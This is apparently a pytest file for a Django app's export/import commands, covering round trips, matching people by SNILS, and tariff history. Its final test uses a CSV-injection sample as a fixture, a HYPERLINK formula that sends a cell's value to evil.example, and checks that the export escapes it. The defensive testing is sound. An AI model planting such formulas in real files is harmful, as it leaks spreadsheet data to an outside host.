"""`opora export DIR --organisation CODE`: the exchange files written back; import of an export reproduces the data."""

from __future__ import annotations

import datetime
import io
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from django.utils import translation

from opora.audit.models import AuditEvent
from opora.catalogue.models import Service, Tariff
from opora.delivery.models import Delivery
from opora.lib.snils import with_checksum
from opora.org.models import AssignmentPlan, Department, Employee, Organisation
from opora.people.models import Enrolment, Recipient
from tests.exchange.test_import import (  # noqa: F401  (categories is a fixture)
    ENROLMENTS,
    RECIPIENTS,
    build,
    categories,
    checksum,
    counts,
    run,
    write_csv,
)


def snapshot(code: str) -> dict[str, list[tuple]]:
    """Every row of the organisation by codes, not ids, so two organisations can be compared."""
    org = Organisation.objects.get(code=code)
    return {
        "organisation": [(org.name, org.region, org.address, org.founder)],
        "departments": sorted(Department.objects.filter(organisation=org).values_list("code", "name", "kind")),
        "workers": sorted(Employee.objects.filter(organisation=org).values_list(
            "tab_no", "last_name", "first_name", "patronymic", "position", "department__code", "hired_on",
            "dismissed_on", "search_name")),
        "recipients": sorted((*r, tuple(sorted(Recipient.objects.get(organisation=org, external_id=r[0])
                                               .categories.values_list("code", flat=True))))
                             for r in Recipient.objects.filter(organisation=org).values_list(
            "external_id", "last_name", "first_name", "patronymic", "sex", "birth_date", "snils", "settlement__name",
            "sector", "status", "search_name")),
        "enrolments": sorted(Enrolment.objects.filter(organisation=org).values_list(
            "recipient__external_id", "department__code", "form", "admitted_on", "discharged_on",
            "discharge_reason", "worker__tab_no")),
        "services": sorted(Service.objects.filter(organisation=org).values_list(
            "code", "name", "type", "list", "unit", "time_norm_min", "tariffs__valid_from", "tariffs__price")),
        "deliveries": sorted(Delivery.objects.filter(organisation=org).values_list(
            "recipient__external_id", "department__code", "service__code", "date", "worker__tab_no", "seq",
            "quantity", "list", "tariff", "amount"), key=repr),
        "assignment": sorted(AssignmentPlan.objects.filter(organisation=org).values_list(
            "department__code", "year", "services_plan", "recipients_plan")),
    }


def export(directory, *args: str) -> str:
    out = io.StringIO()
    with translation.override("en"):
        call_command("export", str(directory), *args, stdout=out)
    return out.getvalue()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_it_round_trips_export_then_import_into_a_fresh_organisation(tmp_path, categories, fmt):  # noqa: F811
    assert run(build(tmp_path / "in"))[0] == 0
    out = export(tmp_path / "out", "--organisation", "imp", "--format", fmt)
    assert f"deliveries.{fmt}: 5 rows" in out
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(
        f"{n}.{fmt}" for n in ("organisation", "departments", "workers", "recipients", "enrolments", "services",
                               "deliveries", "assignment", "applications"))
    status, _out, err = run(tmp_path / "out", "--organisation", "copy")
    assert status == 0, err
    original, copy = snapshot("imp"), snapshot("copy")
    for name in original:
        assert copy[name] == original[name], name
    # and the export imported over the original changes nothing
    status, out2, _err = run(tmp_path / "out")
    assert status == 0 and "0 created, 0 updated." in out2


def test_it_writes_utf8_with_bom_and_semicolons_and_records_the_export(tmp_path, categories):  # noqa: F811
    assert run(build(tmp_path / "in"))[0] == 0
    export(tmp_path / "out", "--organisation", "imp")
    data = (tmp_path / "out" / "recipients.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[0] == "external_id;last_name;first_name;patronymic;sex;birth_date;snils;settlement;sector;categories"
    assert "R1;Фёдорова;Алёна;Петровна;F;1940-05-01;11223344595;Тверь;city;lonely|pensioner" in lines
    event = AuditEvent.objects.get(object_type="export")
    assert event.event_type == "exported" and event.changes["deliveries"] == 5


def test_it_refuses_an_unknown_organisation(tmp_path, db):
    with pytest.raises(CommandError), translation.override("en"):
        call_command("export", str(tmp_path / "out"), "--organisation", "nobody")


def _people_without_external_ids() -> tuple[Recipient, Recipient]:
    """Two people registered in Opora itself (no external id), one with a SNILS, enrolled and served."""
    org = Organisation.objects.get(code="imp")
    home = Department.objects.get(organisation=org, code="home")
    worker = Employee.objects.get(organisation=org, tab_no="001")
    cleaning = Service.objects.get(organisation=org, code="Д1.1")
    with_snils = Recipient.objects.create(organisation=org, last_name="Орлова", first_name="Вера", sex="F",
                                          status="active", birth_date=datetime.date(1944, 3, 8),
                                          snils=with_checksum("123456789"))
    without = Recipient.objects.create(organisation=org, last_name="Орлов", first_name="Олег", sex="M",
                                       birth_date=datetime.date(1942, 7, 1), status="active")
    for person in (with_snils, without):
        Enrolment.objects.create(organisation=org, recipient=person, department=home, form="home",
                                 admitted_on=datetime.date(2020, 1, 15), worker=worker)
        Delivery.objects.create(organisation=org, recipient=person, department=home, service=cleaning,
                                worker=worker, date=datetime.date(2020, 2, 5), quantity=2, list="additional",
                                tariff=Decimal("120.50"), amount=Decimal("241.00"))
    return with_snils, without


def test_it_reimports_an_export_into_the_same_organisation_without_changes(tmp_path, categories):  # noqa: F811
    assert run(build(tmp_path / "in"))[0] == 0
    with_snils, without = _people_without_external_ids()
    export(tmp_path / "out", "--organisation", "imp")
    recipients = (tmp_path / "out" / "recipients.csv").read_text(encoding="utf-8-sig")
    assert f"opora-{with_snils.pk};" in recipients and f"opora-{without.pk};" in recipients
    before, digest = counts(), checksum()
    for _run in range(2):
        status, out, err = run(tmp_path / "out")
        assert status == 0, err
        assert "0 created, 0 updated." in out, out
        assert counts() == before and checksum() == digest
    with_snils.refresh_from_db()
    assert with_snils.external_id is None  # the export's own form is not kept as an external id


def test_it_matches_a_registered_person_by_snils_and_gives_them_the_external_id(tmp_path, categories):  # noqa: F811
    assert run(build(tmp_path / "in"))[0] == 0
    with_snils, _without = _people_without_external_ids()
    r1 = Recipient.objects.get(external_id="R1")
    recipients = [RECIPIENTS[0],
                  ["EXT7", "Орлова", "Вера", "Ивановна", "F", "1944-03-08", with_snils.snils, "", "", ""],
                  ["NEW1", "Фёдорова", "Алёна", "Петровна", "F", "01.05.1940", "112-233-445 95", "Тверь", "city",
                   "pensioner|lonely"]]
    enrolments = [ENROLMENTS[0], ["NEW1", "urg", "urgent", "2020-03-01", "", "", ""]]
    only = tmp_path / "people"
    only.mkdir()
    write_csv(only / "recipients.csv", recipients, encoding="utf-8", delimiter=";")
    write_csv(only / "enrolments.csv", enrolments, encoding="utf-8", delimiter=";")
    people = Recipient.objects.count()
    status, out, err = run(only, "--organisation", "imp")
    assert status == 0, err
    assert "recipients.csv: 0 created, 1 updated" in out and Recipient.objects.count() == people
    with_snils.refresh_from_db()
    assert with_snils.external_id == "EXT7" and with_snils.patronymic == "Ивановна"
    r1.refresh_from_db()
    assert r1.external_id == "R1"  # an existing external id is never replaced
    assert Enrolment.objects.filter(recipient=r1, department__code="urg").exists()
    status, out, _err = run(only, "--organisation", "imp")
    assert status == 0 and "0 created, 0 updated." in out


def test_it_refuses_two_rows_for_one_registered_person(tmp_path, categories):  # noqa: F811
    assert run(build(tmp_path / "in"))[0] == 0
    with_snils, _without = _people_without_external_ids()
    recipients = [RECIPIENTS[0],
                  [f"opora-{with_snils.pk}", "Орлова", "Вера", "", "F", "1944-03-08", "", "", "", ""],
                  ["EXT7", "Орлова", "Вера", "", "F", "1944-03-08", with_snils.snils, "", "", ""]]
    only = tmp_path / "people"
    only.mkdir()
    write_csv(only / "recipients.csv", recipients, encoding="utf-8", delimiter=";")
    before = checksum()
    status, _out, err = run(only, "--organisation", "imp")
    assert status == 1
    assert "recipients.csv:3: external_id: This row names the same registered person as line 2." in err.splitlines()
    assert checksum() == before


def test_it_carries_the_tariff_history_and_each_lines_tariff_and_amount(tmp_path, categories):  # noqa: F811
    assert run(build(tmp_path / "in"))[0] == 0
    org = Organisation.objects.get(code="imp")
    windows = Service.objects.get(organisation=org, code="Д1.1")
    Tariff.objects.create(service=windows, valid_from=datetime.date(2020, 3, 5), price=Decimal("150.00"))
    r1 = Recipient.objects.get(external_id="R1")
    Delivery.objects.create(organisation=org, recipient=r1, department=Department.objects.get(code="home"),
                            service=windows, date=datetime.date(2020, 4, 1), quantity=2, list="additional",
                            tariff=Decimal("150.00"), amount=Decimal("280.00"))  # a discount: its own amount
    export(tmp_path / "out", "--organisation", "imp")
    services = (tmp_path / "out" / "services.csv").read_text(encoding="utf-8-sig").splitlines()
    assert services[0].endswith(";tariff;time_norm_min;tariff_from;innovative")
    assert [s for s in services if s.startswith("Д1.1;")] == ["Д1.1;Мытье окон;household;additional;окно;120.50;40;"
                                                             "2019-01-01;0",
                                                             "Д1.1;Мытье окон;household;additional;окно;150.00;40;"
                                                             "2020-03-05;0"]
    status, _out, err = run(tmp_path / "out", "--organisation", "copy")
    assert status == 0, err
    original, copy = snapshot("imp"), snapshot("copy")
    for name in original:
        assert copy[name] == original[name], name
    assert list(Delivery.objects.filter(organisation__code="copy", service__code="Д1.1",
                                        recipient__external_id="R1").order_by("date")
                .values_list("date", "tariff", "amount")) == [
        (datetime.date(2020, 2, 3), Decimal("120.50"), Decimal("241.00")),
        (datetime.date(2020, 4, 1), Decimal("150.00"), Decimal("280.00"))]
    status, out, _err = run(tmp_path / "out")
    assert status == 0 and "0 created, 0 updated." in out


def test_it_refuses_a_snils_that_belongs_to_another_registered_person(tmp_path, categories):  # noqa: F811
    assert run(build(tmp_path / "in"))[0] == 0
    with_snils, _without = _people_without_external_ids()
    recipients = [RECIPIENTS[0], [*RECIPIENTS[1][:6], with_snils.snils, *RECIPIENTS[1][7:]]]  # R1 takes Orlova's
    only = tmp_path / "people"
    only.mkdir()
    write_csv(only / "recipients.csv", recipients, encoding="utf-8", delimiter=";")
    before = checksum()
    status, _out, err = run(only, "--organisation", "imp")
    assert status == 1
    assert (f"recipients.csv:2: snils: A person with this SNILS is already registered under another id "
            f"«opora-{with_snils.pk}».") in err.splitlines()
    assert checksum() == before


def test_it_does_not_take_an_opora_id_for_a_person_with_another_snils(tmp_path, categories):  # noqa: F811
    """`opora-<id>` from another installation: the person with that id here is someone else when SNILS differ."""
    assert run(build(tmp_path / "in"))[0] == 0
    with_snils, _without = _people_without_external_ids()
    stranger = with_checksum("987654321")
    recipients = [RECIPIENTS[0], [f"opora-{with_snils.pk}", "Гость", "Гурий", "", "M", "1950-01-01", stranger, "", "",
                                  ""]]
    only = tmp_path / "people"
    only.mkdir()
    write_csv(only / "recipients.csv", recipients, encoding="utf-8", delimiter=";")
    status, out, err = run(only, "--organisation", "imp")
    assert status == 0, err
    assert "recipients.csv: 1 created, 0 updated" in out
    with_snils.refresh_from_db()
    assert with_snils.last_name == "Орлова" and with_snils.external_id is None
    assert Recipient.objects.get(external_id=f"opora-{with_snils.pk}").snils == stranger


FORMULA_LIKE = {"last_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "first_name": "+Анна",
                "patronymic": "'=уже с апострофом"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_like_text_is_escaped_in_the_export_and_imports_back_unchanged(tmp_path, categories, fmt):  # noqa: F811
    """A CSV opened in a spreadsheet runs `=…` too: the export writes such text with a leading apostrophe (one
    more before a text that already has one), the import takes exactly that apostrophe off."""
    assert run(build(tmp_path / "in"))[0] == 0
    for external_id, names in (("R1", FORMULA_LIKE), ("R2", {"last_name": "Прокоп'єнко"})):
        person = Recipient.objects.get(organisation__code="imp", external_id=external_id)
        for key, value in names.items():
            setattr(person, key, value)
        person.save()  # the search name follows
    Department.objects.filter(organisation__code="imp", code="home").update(name="-Надомное отделение")
    export(tmp_path / "out", "--organisation", "imp", "--format", fmt)
    if fmt == "csv":
        people = (tmp_path / "out" / "recipients.csv").read_text(encoding="utf-8-sig")
        assert ';"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")";\'+Анна;\'\'=уже с апострофом;' in people
        assert ";Прокоп'єнко;" in people  # an apostrophe inside a name is not an escape
        assert "\n=" not in people and ";=" not in people and ';"=' not in people
        assert ";'-Надомное отделение;" in (tmp_path / "out" / "departments.csv").read_text(encoding="utf-8-sig")
    status, _out, err = run(tmp_path / "out", "--organisation", "copy")
    assert status == 0, err
    copy = Recipient.objects.get(organisation__code="copy", external_id="R1")
    assert {k: getattr(copy, k) for k in FORMULA_LIKE} == FORMULA_LIKE
    assert Recipient.objects.get(organisation__code="copy", external_id="R2").last_name == "Прокоп'єнко"
    assert Department.objects.get(organisation__code="copy", code="home").name == "-Надомное отделение"
    assert snapshot("copy") == snapshot("imp")
    status, out2, _err = run(tmp_path / "out")  # and over the original: nothing changes
    assert status == 0 and "0 created, 0 updated." in out2
